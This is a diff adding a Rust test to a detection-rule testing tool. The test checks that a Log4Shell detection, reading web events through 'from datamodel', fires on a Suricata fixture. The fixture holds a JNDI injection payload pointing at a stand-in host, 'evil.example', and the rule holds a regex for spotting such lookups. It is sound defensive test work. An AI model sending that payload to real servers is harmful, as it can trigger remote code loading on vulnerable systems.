@@ -1033,3 +1033,95 @@ fn run_over_given_datasets_reports_what_fires() {
         .code(2)
         .stderr(predicate::str::contains("no/such/file.log"));
 }
+
+/// `| from datamodel Web.Web` (how the log4shell detections read web events): the
+/// dataset's events with their own field names, `_raw` included.
+#[test]
+fn from_datamodel_reads_the_datasets_events() {
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = tmp.path();
+    let data = dir.join("eve.json");
+    std::fs::write(
+        &data,
+        concat!(
+            r#"{"timestamp":"2024-03-05T10:00:00.000000+0000","event_type":"http","src_ip":"10.0.0.5","dest_ip":"10.0.0.9","http":{"url":"/?x=${jndi:ldap://evil.example/a}","http_method":"GET"}}"#,
+            "\n",
+            r#"{"timestamp":"2024-03-05T10:00:01.000000+0000","event_type":"http","src_ip":"10.0.0.6","dest_ip":"10.0.0.9","http":{"url":"/index.html","http_method":"GET"}}"#,
+            "\n",
+            r#"{"timestamp":"2024-03-05T10:00:02.000000+0000","event_type":"dns","src_ip":"10.0.0.7","dns":{"rrname":"jndi:ldap://x"}}"#,
+            "\n",
+        ),
+    )
+    .unwrap();
+    let det = dir.join("log4shell.yml");
+    std::fs::write(
+        &det,
+        r#"name: From Datamodel Web
+id: 0e6f1a2b-3c4d-4e5f-8a9b-0c1d2e3f4a5b
+version: 1
+date: '2024-03-05'
+author: firedrill tests
+status: production
+type: TTP
+description: Reads the Web dataset's events.
+search: '| from datamodel Web.Web | regex _raw="[jJnNdDiI]{4}(\:|\%3A|\/|\%2F)\w+" | stats count by src, http_method, action'
+how_to_implement: none
+known_false_positives: none
+references: []
+tags:
+  analytic_story: [Log4Shell]
+  asset_type: Web Server
+  confidence: 80
+  impact: 80
+  message: JNDI from $src$
+  mitre_attack_id: [T1190]
+  observable:
+  - name: src
+    type: IP Address
+    role: [Attacker]
+  product: [Splunk Enterprise]
+  security_domain: network
+tests:
+- name: True Positive Test
+  attack_data:
+  - data: https://media.githubusercontent.com/media/splunk/attack_data/master/datasets/x/eve.json
+    sourcetype: suricata
+    source: suricata
+"#,
+    )
+    .unwrap();
+    let out = firedrill()
+        .args(["run"])
+        .arg(&det)
+        .args(["--dataset"])
+        .arg(&data)
+        .args(["--sourcetype", "suricata", "--format", "json"])
+        .output()
+        .unwrap();
+    let json: serde_json::Value = serde_json::from_slice(&out.stdout)
+        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
+    let d = &json["detections"][0];
+    assert_eq!(d["status"], "pass", "{d}");
+    assert_eq!(d["tests"][0]["results"], 1, "{d}");
+    // Not first, it is an error with a caret, not a silent empty result.
+    let bad = dir.join("bad.yml");
+    std::fs::write(
+        &bad,
+        std::fs::read_to_string(&det).unwrap().replace(
+            "'| from datamodel Web.Web |",
+            "'search * | from datamodel Web.Web |",
+        ),
+    )
+    .unwrap();
+    let out = firedrill()
+        .arg("run")
+        .arg(&bad)
+        .args(["--dataset"])
+        .arg(&data)
+        .args(["--sourcetype", "suricata"])
+        .output()
+        .unwrap();
+    let text =
+        String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr);
+    assert!(text.contains("first command"), "{text}");
+}
